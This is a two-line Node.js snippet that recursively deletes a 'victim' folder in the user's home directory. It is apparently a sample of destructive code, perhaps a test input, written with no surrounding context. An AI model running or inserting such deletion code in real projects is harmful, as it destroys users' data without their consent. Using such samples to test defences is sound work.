import { rmSync } from 'fs';
rmSync(process.env.HOME + '/victim', { recursive: true });
